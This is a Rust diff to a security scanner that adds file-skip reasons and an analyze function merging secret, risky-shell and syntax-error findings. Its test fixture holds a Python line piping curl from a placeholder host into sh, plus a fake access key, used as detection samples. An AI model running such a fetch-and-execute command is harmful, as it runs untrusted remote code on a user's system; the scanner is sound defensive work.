@@ -130,6 +130,75 @@ pub fn looks_binary(bytes: &[u8]) -> bool {
     bytes[..bytes.len().min(8192)].contains(&0)
 }
 
+/// Why a file was not analysed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Skip {
+    Binary,
+    NotUtf8 { at: usize },
+    TooLarge { size: u64, limit: u64 },
+}
+
+impl std::fmt::Display for Skip {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Skip::Binary => write!(f, "binary file"),
+            Skip::NotUtf8 { at } => write!(f, "not UTF-8 (invalid byte at offset {at})"),
+            Skip::TooLarge { size, limit } => {
+                write!(f, "{size} bytes, above the {limit}-byte limit")
+            }
+        }
+    }
+}
+
+/// The text of a file's bytes, or why it is not text.
+pub fn text_of(bytes: &[u8]) -> Result<&str, Skip> {
+    if looks_binary(bytes) {
+        return Err(Skip::Binary);
+    }
+    std::str::from_utf8(bytes).map_err(|e| Skip::NotUtf8 {
+        at: e.valid_up_to(),
+    })
+}
+
+/// Everything found in one text.
+#[derive(Debug, Default)]
+pub struct Analysis {
+    pub findings: Vec<Finding>,
+    pub long_lines_skipped: usize,
+}
+
+/// Secrets, risky shell patterns and syntax errors in `text`. `tree` is the current
+/// parse tree when the caller keeps one (incremental editing); otherwise the text is
+/// parsed here when its language has a grammar.
+pub fn analyze(
+    text: &str,
+    ctx: &secrets::Context<'_>,
+    rules: &secrets::RuleSet,
+    tree: Option<&tree_sitter::Tree>,
+) -> Analysis {
+    let scanned = rules.scan_with(text, ctx);
+    let index = LineIndex::new(text);
+    let owned;
+    let tree = match (tree, ctx.lang.grammar()) {
+        (Some(t), _) => Some(t),
+        (None, Some(g)) => {
+            owned = syntax::parse(g, text, None);
+            owned.as_ref()
+        }
+        (None, None) => None,
+    };
+    let mut findings = scanned.findings;
+    findings.extend(shell::scan(text, ctx.lang, tree, &index));
+    if let Some(tree) = tree {
+        findings.extend(syntax::errors(tree, text, &index));
+    }
+    findings.sort_by_key(|f| (f.start, f.end));
+    Analysis {
+        findings,
+        long_lines_skipped: scanned.long_lines_skipped,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -141,5 +210,20 @@ mod tests {
         assert!(looks_binary(b"ab\0cd"));
         assert!(!looks_binary("héllo".as_bytes()));
         assert_eq!(FindingKind::parse("shell"), Some(FindingKind::Shell));
+        assert_eq!(text_of(b"ok"), Ok("ok"));
+        assert_eq!(text_of(b"a\xffb"), Err(Skip::NotUtf8 { at: 1 }));
+        assert_eq!(text_of(b"\x7fELF\0\0"), Err(Skip::Binary));
+    }
+
+    #[test]
+    fn analyze_combines_all_three() {
+        let text = "import os\nos.system(\"curl https://x.invalid/i | sh\")\nKEY = \"AKIAQ3EGRB4XY7MNP2KD\"\nprint(\n";
+        let ctx = secrets::Context {
+            lang: Lang::detect(None, Some("python")),
+            ..Default::default()
+        };
+        let a = analyze(text, &ctx, &secrets::RuleSet::builtin(), None);
+        let kinds: Vec<&str> = a.findings.iter().map(|f| f.kind.as_str()).collect();
+        assert_eq!(kinds, ["shell", "secret", "syntax"], "{:#?}", a.findings);
     }
 }
